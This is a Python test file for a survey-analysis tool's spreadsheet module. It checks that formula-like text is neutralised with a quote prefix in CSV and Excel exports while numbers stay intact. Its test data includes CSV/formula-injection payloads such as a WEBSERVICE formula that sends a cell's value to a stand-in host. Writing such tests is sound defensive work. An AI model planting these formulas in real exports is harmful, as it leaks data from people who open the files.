"""``analysis.spreadsheet``: text a spreadsheet would evaluate is written with the OWASP quote
prefix in CSV and Excel, numbers stay numbers, and our own files read back unchanged."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

import analysis
from analysis import spreadsheet
from analysis.cli import main as cli_main
from instruments import SHIPPED_DIR

# Every way in OWASP's list, and the two attacks the issue found in our files.
ATTACKS = [
    '=HYPERLINK("http://x")',
    '=WEBSERVICE("http://x/?"&A1)',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\nsecond line",
    "'=already quoted",
]
HARMLESS = [
    "Bins are never emptied",
    'ok\r=HYPERLINK("http://x")',
    "it's fine",
    "'tis",
    "1",
    "4",
    "dk",
    "",
    "2026-Q3",
    "a=b",
    "x-1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_get_the_quote_and_come_back_unchanged(text: str) -> None:
    written = spreadsheet.neutralise(text)
    assert written == "'" + text
    assert spreadsheet.restore(written) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_written_as_it_is(text: str) -> None:
    assert spreadsheet.neutralise(text) == text
    assert spreadsheet.restore(text) == text


@pytest.mark.parametrize("number", [-1, -1.5, 0, 3, 2.25, np.int64(-7), np.float64(-0.125), True])
def test_numbers_are_never_changed(number) -> None:
    assert spreadsheet.neutralise(number) is number


@settings(deadline=None, max_examples=300)
@given(
    st.text(
        alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", "1", " "]), max_size=6
    )
    | st.text(max_size=12)
)
def test_neutralising_is_reversible_and_leaves_nothing_to_evaluate(text: str) -> None:
    written = spreadsheet.neutralise(text)
    assert not written.startswith(spreadsheet.FORMULA_TRIGGERS)
    assert spreadsheet.restore(written) == text


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "comment": ATTACKS + HARMLESS[:2],
            "n": list(range(len(ATTACKS) + 2)),
            "change": [-1.5, -0.1, 2.0, np.nan, -3.0, 0.5, -1e-9, 7.0, -2.0, 1.0, -100.0],
            "mixed": ["-1+1", -2.5, None, "ok", 3, "@x", "+1", np.nan, "=1", "a", "b"],
        }
    )


def test_csv_cells_are_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    frame = _frame()
    target = tmp_path / "table.csv"
    spreadsheet.write_csv(frame, target)
    with target.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(frame)  # a line break inside a text never starts a new row (or cell)
    for row, original in zip(rows, ATTACKS, strict=False):
        assert row["comment"] == "'" + original
    assert [r["change"] for r in rows[:3]] == [
        "-1.5",
        "-0.10000000000000001",
        "2",
    ]  # numbers, unquoted
    assert rows[1]["mixed"] == "-2.5" and rows[0]["mixed"] == "'-1+1"
    assert not any(
        cell.startswith(spreadsheet.FORMULA_TRIGGERS)
        for row in rows
        for key, cell in row.items()
        if key in ("comment",)
    )
    back = spreadsheet.read_csv(
        target, dtype={"comment": str}, keep_default_na=False, na_values=[""]
    )
    assert back["comment"].tolist() == frame["comment"].tolist()
    assert back["change"].tolist()[:3] == [-1.5, -0.1, 2.0]


def test_excel_text_cells_are_strings_and_never_formulas(tmp_path: Path) -> None:
    frame = _frame().assign(control=["bell\x07", *[""] * 10])
    target = tmp_path / "table.xlsx"
    spreadsheet.write_workbook({"=HYPERLINK(x)": frame}, target)
    with target.open("rb") as handle:  # not read-only: every cell's type is visible
        book = openpyxl.load_workbook(handle)
    sheet = book.worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    header = [c.value for c in sheet[1]]
    assert header == ["comment", "n", "change", "mixed", "control"]
    comments = [sheet.cell(row=r, column=1) for r in range(2, 2 + len(ATTACKS))]
    # an XML parser may read a carriage return back as a line feed (openpyxl with or without
    # lxml differ); the quote in front is what matters
    assert [c.value.replace("\r", "\n") for c in comments] == [
        "'" + a.replace("\r", "\n") for a in ATTACKS
    ]
    assert {c.data_type for c in comments} == {"s"}
    change = sheet.cell(row=2, column=3)
    assert change.value == -1.5 and change.data_type == "n"  # a negative number is a number
    assert (
        sheet.cell(row=3, column=4).value == -2.5 and sheet.cell(row=3, column=4).data_type == "n"
    )
    assert sheet.cell(row=5, column=3).value is None  # NaN is a blank cell, as in the CSV
    assert sheet.cell(row=2, column=5).value == "bell\ufffd"
    with target.open("rb") as handle:
        read_only = openpyxl.load_workbook(handle, read_only=True).worksheets[0]
        assert all(
            len(row) == 5 for row in read_only.iter_rows(values_only=True)
        )  # the sheet knows its size


# --------------------------------------------------------------------------- the analysis CLI

AGREE5 = {
    "labels": ["Strongly disagree", "Disagree", "Neither", "Agree", "Strongly agree"],
    "positive": [4, 5],
}
INSTRUMENT = {
    "id": "pulse",
    "title": "Pulse",
    "audience": "staff",
    "scales": {"agree5": AGREE5},
    "questions": [
        {"id": "Q1", "text": "One", "scale": "agree5", "outcomes": ["O1"]},
        {"id": "T1", "type": "text", "text": "Say more"},
    ],
}
CODEBOOK = {"themes": [{"id": "bins", "label": "=Bins", "outcomes": ["O12"], "include": ["bin*"]}]}
WAVES = ['=HYPERLINK("http://x")', "@SUM(A1)"]


def test_the_cli_reads_our_export_unchanged_and_writes_neutralised_tables(tmp_path: Path) -> None:
    folder = tmp_path / "definitions"
    folder.mkdir()
    shutil.copy(SHIPPED_DIR / "framework.yaml", folder / "framework.yaml")
    (folder / "pulse.yaml").write_text(yaml.safe_dump(INSTRUMENT))
    (folder / "codebook.yaml").write_text(yaml.safe_dump(CODEBOOK))
    n = 24
    frame = pd.DataFrame(
        {
            "response_id": [f"r{i}" for i in range(n)],
            "instrument": "pulse",
            "audience": "staff",
            "wave": [WAVES[i % 2] for i in range(n)],
            "Q1": [str(1 + i % 5) for i in range(n)],
            "team": ["-1+1" if i < 12 else "\tTeam B" for i in range(n)],
            "T1": ["=bins are full" if i % 3 else "+bins" for i in range(n)],
        }
    )
    responses = tmp_path / "responses.csv"
    spreadsheet.write_csv(frame, responses)
    assert "'=HYPERLINK" in responses.read_text()
    read = analysis.read_responses(responses)
    assert (
        read["wave"].tolist() == frame["wave"].tolist()
        and read["T1"].tolist() == frame["T1"].tolist()
    )
    assert read["team"].tolist() == frame["team"].tolist()

    out = tmp_path / "out"
    assert (
        cli_main(
            [
                "indicators",
                "--responses",
                str(responses),
                "--instruments",
                str(folder),
                "--by",
                "team",
                "--min-n",
                "5",
                "--waves",
                ",".join(WAVES),
                "--out",
                str(out),
            ]
        )
        == 0
    )
    for name in ("indicators", "changes", "themes"):
        with (out / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        dangerous = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
        assert not dangerous, (name, dangerous[:3])
        assert not [c for c in cells if c.startswith("-") and not _is_number(c)], name
    indicators = spreadsheet.read_csv(out / "indicators.csv", dtype={"wave": str, "group": str})
    assert set(indicators["wave"]) == set(WAVES)
    assert set(indicators["group"].dropna()) == {"-1+1", "\tTeam B"}
    changes = pd.read_csv(out / "changes.csv")
    assert changes["change"].dtype == float  # a negative change is written as a number
    themes = spreadsheet.read_csv(out / "themes.csv", dtype=str, keep_default_na=False)
    assert set(themes["label"]) == {"=Bins"}


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_hand_coded_sample_reader_restores_quoted_comments(tmp_path: Path) -> None:
    from analysis.text.evaluate import read_hand_coded

    path = tmp_path / "sample.csv"
    spreadsheet.write_csv(
        pd.DataFrame({"comment": ["-bins again", "fine"], "themes": ["bins", ""]}), path
    )
    assert read_hand_coded(path)["comment"].tolist() == ["-bins again", "fine"]


def test_csv_bytes_and_workbook_bytes_are_the_file_writers_in_memory() -> None:
    frame = pd.DataFrame({"a": ["=1"], "b": [-1]})
    assert spreadsheet.csv_bytes(frame) == b"a,b\r\n'=1,-1\r\n"
    book = openpyxl.load_workbook(io.BytesIO(spreadsheet.workbook_bytes({"s": frame})))
    assert [c.value for c in book["s"][2]] == ["'=1", -1]


def test_cells_holding_lists_are_written_as_their_text() -> None:
    frame = pd.DataFrame({"waves": [["=1", "2"], ["3"]], "label": ["-x", "y"]})
    rows = list(csv.reader(io.StringIO(spreadsheet.csv_bytes(frame).decode())))
    assert rows[1] == ["['=1', '2']", "'-x"] and rows[2] == ["['3']", "y"]
    book = openpyxl.load_workbook(io.BytesIO(spreadsheet.workbook_bytes({"s": frame})))
    assert [c.value for c in book["s"][2]] == ["['=1', '2']", "'-x"]
